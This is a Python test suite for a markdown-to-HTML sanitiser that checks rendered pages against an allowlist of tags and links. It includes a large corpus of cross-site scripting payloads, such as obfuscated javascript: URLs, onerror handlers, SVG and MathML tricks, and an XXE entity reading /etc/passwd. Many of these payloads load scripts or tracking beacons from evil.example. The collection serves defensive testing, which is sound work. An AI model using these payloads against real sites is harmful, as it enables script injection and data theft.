"""Markdown in, safe HTML out: an attack corpus, generated text, and two controls that show the check can fail."""

import re
import time
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from planwiki.base.markdown import plain, render

# Written here once more on purpose: what the page may hold must not change because the code did.
TAGS = {"p", "br", "hr", "h3", "h4", "h5", "h6", "pre", "blockquote", "ul", "ol", "li", "em", "strong", "s", "a", "img"}
TAGS |= {"code", "table", "thead", "tbody", "tr", "th", "td"}
ATTRIBUTES = {("a", "href"), ("a", "rel"), ("a", "title"), ("ol", "start")} | {
    ("img", name) for name in ("src", "alt", "title")
}
SAFE_HREF = re.compile(r"https?://[^/?#@\\]+.*|mailto:.+|tel:.+|/([^/\\].*)?", re.IGNORECASE)
SAFE_SRC = re.compile(r"/plans/[^/.]+/media/[^:\\]+")

SCRIPTS = ["javascript:alert(1)", "vbscript:msgbox(1)", "data:text/html,<script>alert(1)</script>"]
DISGUISED = [
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "java&#10;script:alert(1)",
    "java&Tab;script:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;avascript:alert(1)",
    "&#0000106&#0000097vascript:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "%6Aavascript:alert(1)",
    "\x01javascript:alert(1)",
    "\x00javascript:alert(1)",
    "java\x00script:alert(1)",
    " javascript:alert(1)",
    "\u00a0javascript:alert(1)",
    "\u2028javascript:alert(1)",
    "\u200bjavascript:alert(1)",
    "\uff4aavascript:alert(1)",
    "javascript\uff1aalert(1)",
    "javascript\\:alert(1)",
    "feed:javascript:alert(1)",
    "view-source:javascript:alert(1)",
    "jar:javascript:alert(1)!/",
    "data:image/svg+xml;base64,PHN2Zz48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+",
    "data:image/png;base64,iVBORw0KGgo=",
    "data:,alert(1)",
    "blob:https://evil.example/1",
    "file:///etc/passwd",
    "filesystem:https://evil.example/x",
    "about:blank",
    "ms-office:ofv|u|https://evil.example/x",
    "intent://evil.example#Intent;scheme=https;end",
    "ftp://evil.example/",
    "ws://evil.example/",
    "x:alert(1)",
]
ELSEWHERE = [
    "//evil.example",
    "//evil.example/a.png",
    "///evil.example",
    "////evil.example",
    "/\\evil.example",
    "\\\\evil.example",
    "\\/evil.example",
    "/&#x2f;evil.example",
    "&#47;&#47;evil.example",
    "&sol;/evil.example",
    "/&Tab;/evil.example",
    "/&NewLine;/evil.example",
    "/\u00ad/evil.example",
    "https:evil.example",
    "https:/evil.example",
    "https:///evil.example",
    "https:\\\\evil.example",
    "https://",
    "https://plan.example@evil.example/",
    "https://plan.example:pass@evil.example/",
    "https://plan.example\\@evil.example/",
    "?next=//evil.example",
    "evil.example",
    "#x",
    "../x",
    "",
]
BEACONS = [
    "https://evil.example/beacon.gif",
    "http://evil.example/beacon.gif?who=maya",
    "//evil.example/beacon.gif",
    "/plans/1/sections/secret",
    "/sign-out",
    "/plans/1/media/../../sign-out",
    "/plans/1/media/..",
    "/plans/../media/x",
    "/plans/1/media//evil.example",
    "/plans/1/media/x?url=https://evil.example",
    "/plans/1/media/%2e%2e/x",
    "https://evil.example/plans/1/media/x",
    "cid:x",
    "beacon.gif",
]
RAW = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<script\x00>alert(1)</script>",
    "</p><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<img src="https://evil.example/beacon.gif">',
    "<img/src=x/onerror=alert(1)//",
    '<a href="javascript:alert(1)" onclick=alert(1)>x</a>',
    "<a href=//evil.example ping=//evil.example>x</a>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=//evil.example></iframe>",
    "<object data=//evil.example></object><embed src=//evil.example>",
    "<style>@import '//evil.example/x.css'; p{background:url(//evil.example)}</style>",
    "<p style='background:url(//evil.example)'>x</p>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><input name=x><button>Sign in</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<video src=//evil.example poster=//evil.example onerror=alert(1)></video><audio src=//evil.example>",
    "<source srcset=//evil.example><picture><source srcset='//evil.example 1x'></picture>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<input autofocus onfocus=alert(1)>",
    "<body onload=alert(1)><frameset onload=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea></textarea><script>alert(1)</script>",
    "<title></title><script>alert(1)</script>",
    "<xmp><img src=x onerror=alert(1)></xmp><plaintext><listing>",
    "<marquee onstart=alert(1)>x</marquee><dialog open>Sign in</dialog>",
    "<custom-element onclick=alert(1)>x</custom-element>",
    "<div id=main class=warning name=x dir=rtl contenteditable>x</div>",
    "<!-- <script>alert(1)</script> -->",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><!DOCTYPE html [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\u202e<script>alert(1)</script>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\x00<script>alert(1)</script>\x00",
    "{{ 7*7 }} ${7*7} <% 7*7 %>",
]
MIXED = [
    '[a](/x "\\" onmouseover=alert(1) x=\\"")',
    "[a](/x '\"><script>alert(1)</script>')",
    '![" onerror="alert(1)](/plans/1/media/2.jpg)',
    '![a](/plans/1/media/2.jpg "\\" onload=alert(1)")',
    '[a](</x" onclick="alert(1)>)',
    '```"><script>alert(1)</script>\nx\n```',
    "```x onmouseover=alert(1) style=x\ny\n```",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "|<script>|`</td><script>alert(1)</script>`|\n|:-|:-:|\n|<img src=x onerror=alert(1)>|x|",
    "# <svg onload=alert(1)>",
    "> <iframe src=//evil.example>",
    "1. <script>alert(1)</script>",
    "99999999999999999. x",
    "[a]\n\n[a]: javascript:alert(1)",
    "![a]\n\n[a]: https://evil.example/beacon.gif '<script>'",
    "[![a](https://evil.example/b.gif)](javascript:alert(1))",
    "[![a](https://evil.example/b.gif)](https://nhs.uk)",
    "![[a](javascript:alert(1))](//evil.example)",
    "![![a](https://evil.example/b.gif)](https://evil.example/c.gif)",
    '<https://evil.example/?"onclick=alert(1)//>',
    "<https://a@evil.example>",
    "<javascript:alert(1)>",
    "<data:text/html;base64,PHNjcmlwdD4=>",
    "<x-custom:alert(1)>",
    "<//evil.example>",
    "https://evil.example javascript:alert(1) www.evil.example maya@plan.example",
    "<maya@plan.example>",
    '[a](mailto:maya@plan.example?subject="><script>)',
    "[a](tel:+441134960000)",
    "[a](/plans/1 'ok')",
    "[a](https://www.nhs.uk/conditions/)",
]
ATTACKS = (
    RAW
    + MIXED
    + [f"[x]({url})" for url in SCRIPTS + DISGUISED + ELSEWHERE]
    + [f"[x](<{url}>)" for url in SCRIPTS + DISGUISED + ELSEWHERE]
    + [f"<{url}>" for url in SCRIPTS + DISGUISED + ELSEWHERE]
    + [f"[x][r]\n\n[r]: {url}" for url in SCRIPTS + DISGUISED + ELSEWHERE]
    + [f"![x]({url})" for url in SCRIPTS + DISGUISED + ELSEWHERE + BEACONS]
)


class Inspector(HTMLParser):
    """Collects everything in a page that we did not allow by name."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.faults: list[str] = []
        self.text = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in TAGS:
            self.faults.append(f"<{tag}>")
        self.faults += [f"{tag} {name}={value}" for name, value in attrs if not allowed(tag, name, value or "")]
        if tag == "a" and ("rel", "noopener nofollow ugc") not in attrs:
            self.faults.append("a link without its rel")

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        self.faults.append(f"<!--{data}-->")

    def handle_decl(self, decl: str) -> None:
        self.faults.append(f"<!{decl}>")

    unknown_decl = handle_decl
    handle_pi = handle_decl


def allowed(tag: str, name: str, value: str) -> bool:
    if (tag, name) not in ATTRIBUTES or re.search(r"[\x00-\x1f\x7f]", value if name in {"href", "src"} else ""):
        return False
    if name == "href":
        return SAFE_HREF.fullmatch(value) is not None
    if name == "src":
        return SAFE_SRC.fullmatch(value) is not None and ".." not in value
    return name != "start" or value.isdigit()


def inspected(page: str) -> Inspector:
    inspector = Inspector()
    inspector.feed(page)
    inspector.close()
    return inspector


@pytest.mark.parametrize("markdown", ATTACKS)
def test_an_attack_comes_out_inert(markdown: str) -> None:
    assert inspected(render(markdown)).faults == []


@pytest.mark.parametrize("markdown", RAW)
def test_what_looks_like_html_is_shown_as_it_was_typed(markdown: str) -> None:
    letters = re.findall(r"[a-z]+", re.sub(r"&#?\w+;", " ", markdown))
    shown = inspected(render(markdown)).text
    assert [word for word in letters if word not in shown] == []


@pytest.mark.parametrize(
    ("preset", "at_least", "of"), [("commonmark", 40, RAW), ("js-default", 20, ATTACKS)], ids=["html on", "no nh3"]
)
def test_the_check_fires_without_our_care(preset: str, at_least: int, of: list[str]) -> None:
    """Control: markdown-it alone, as it comes and with HTML off, must not pass the same inspection."""
    caught = [markdown for markdown in of if inspected(MarkdownIt(preset).render(markdown)).faults]
    assert len(caught) >= at_least


FRAGMENTS = st.one_of(
    st.sampled_from(ATTACKS),
    st.sampled_from("[]()<>!*_`~\\#-+1.|:\n\"'& \t\r\x00"),
    st.sampled_from(["![", "](", "]: ", "- ", "> ", "\n\n", "    ", "```", "|-|-|", "<a "]),
    st.sampled_from([" href=", " src=", " onload=", " style=", "javascript:", "data:", "//", "&#", "x;", "script>"]),
    st.text(max_size=8),
)


@settings(max_examples=400)
@given(st.lists(FRAGMENTS, max_size=25).map("".join))
def test_nothing_that_anyone_can_write_brings_in_more_than_we_allow(markdown: str) -> None:
    page = render(markdown)
    assert inspected(page).faults == []
    assert render(markdown) == page


@given(st.text(st.characters(codec=None), max_size=200))
def test_any_text_at_all_can_be_shown(text: str) -> None:
    assert inspected(render(text)).faults == []
    assert isinstance(plain(text), str)


WORDS_AND_MARKS = st.sampled_from(
    ["maya", "likes", "dogs", " ", "\n", "\n\n", "# ", "> ", "- ", "* ", "*", "_", "~~", "    ", "|", "|-|\n"]
)


@settings(max_examples=300)
@given(st.integers(0, 40), st.lists(WORDS_AND_MARKS, max_size=40).map("".join))
def test_no_word_is_left_out_however_it_is_laid_out(depth: int, markdown: str) -> None:
    markdown = "> " * depth + markdown
    # A table is as wide as its first row (GFM); words in later cells beyond it have no place to be shown.
    if "|" in markdown:
        markdown = markdown.replace("|-|\n", "")
    # What follows an opening fence names the code's language (CommonMark 4.5), and is not shown.
    markdown = re.sub("~{3,}|`{3,}", "~~", markdown)
    for shown in (inspected(render(markdown)).text, plain(markdown)):
        assert re.findall("[a-z]", shown) == re.findall("[a-z]", markdown)


def test_headings_start_below_the_heading_of_their_section() -> None:
    page = render("# One\n## Two\n### Three\n#### Four\n###### Six\n\nUnder\n===")
    assert re.findall(r"<(h\d)>", page) == ["h3", "h4", "h5", "h6", "h6", "h3"]
    assert re.findall(r"</(h\d)>", page) == ["h3", "h4", "h5", "h6", "h6", "h3"]


@pytest.mark.parametrize(
    "url",
    [
        "https://www.nhs.uk/a?b=c#d",
        "http://x.example",
        "mailto:maya@plan.example",
        "tel:+441134960000",
        "/plans/1",
        "/",
    ],
)
def test_a_link_we_allow_is_a_link(url: str) -> None:
    assert render(f"[here]({url})") == f'<p><a href="{url}" rel="noopener nofollow ugc">here</a></p>\n'


@pytest.mark.parametrize("url", ["//evil.example", "javascript:x", "ftp://x.example", "a.html", "https://a@b.example"])
def test_a_link_we_do_not_allow_leaves_its_words(url: str) -> None:
    assert "<a" not in render(f"[here *now*](<{url}>)")
    assert "here <em>now</em>" in render(f"[here *now*](<{url}>)").replace("[", "").replace("]", "")


def test_our_own_pictures_are_shown() -> None:
    page = render('![Maya on a swing](/plans/01a2-b/media/01c3.jpg "In June")')
    assert page == '<p><img src="/plans/01a2-b/media/01c3.jpg" alt="Maya on a swing" title="In June"></p>\n'


def test_a_picture_from_elsewhere_is_shown_as_its_words() -> None:
    assert render("![Maya *on* a `swing`](https://evil.example/b.gif)") == "<p>Maya on a swing</p>\n"


def test_a_table_a_list_and_code_are_shown() -> None:
    page = render("|a|b|\n|-|:-:|\n|1|2|\n\n3. x\n\n```py\ny < 1\n```\n\n~~no~~")
    assert "<th>a</th>" in page
    assert "<td>2</td>" in page
    assert '<ol start="3">' in page
    assert "<pre><code>y &lt; 1\n</code></pre>" in page
    assert "<s>no</s>" in page


def test_plain_words_hold_no_markup() -> None:
    assert plain("# I *love*\n\n- [dogs](https://x.example)\n- ![a cat](/x)\n\n`toast`  \n& jam") == (
        "I love\ndogs\na cat\ntoast\n& jam"
    )


def test_text_that_nests_too_deep_is_shown_as_it_was_typed() -> None:
    page = render("> " * 30 + "hello\r\nyou\n\n\n<b>")
    assert page == "<p>" + "&gt; " * 30 + "hello<br>you</p>\n<p>&lt;b&gt;</p>\n"
    assert "<blockquote>" in render("> " * 15 + "hello")
    assert render("- " * 9 + "hello").count("<ul>") == 9


LONG = 100_000
SLOW = {
    "quotes": ">" * LONG,
    "lazy quotes": ">" * 20 + "a\n" * 10_000,
    "brackets": "[" * LONG,
    "as many brackets as we allow": "![" * 5_000 + "*a " * 30_000,
    "brackets in lines": "[a\n" * 5_000,
    "wide table": "a|" * 10_000 + "\n" + "-|" * 10_000 + "\n" + "a\n" * 9_000,
    "many tables": "a|b\n-|-\n\n" * 3_300,
    "emphasis": "*_" * (LONG // 2),
    "closing emphasis": "a** " * (LONG // 4),
    "deep lists": "- " * (LONG // 2),
    "definitions": "".join(f"[a{number}]: /b\n" for number in range(5_000)),
    "code": " ".join("`" * length for length in range(1, 440)),
    "mail": "<a@b>" * (LONG // 5),
    "one long word": "a" * LONG,
}


@pytest.mark.parametrize("markdown", SLOW.values(), ids=SLOW.keys())
def test_the_worst_text_is_shown_in_time(markdown: str) -> None:
    """At most 1.2 s where this was written; four seconds leave room for a slower machine and still catch a square."""
    started = time.process_time()
    page = render(markdown[:LONG])
    assert time.process_time() - started < 4
    assert inspected(page).faults == []
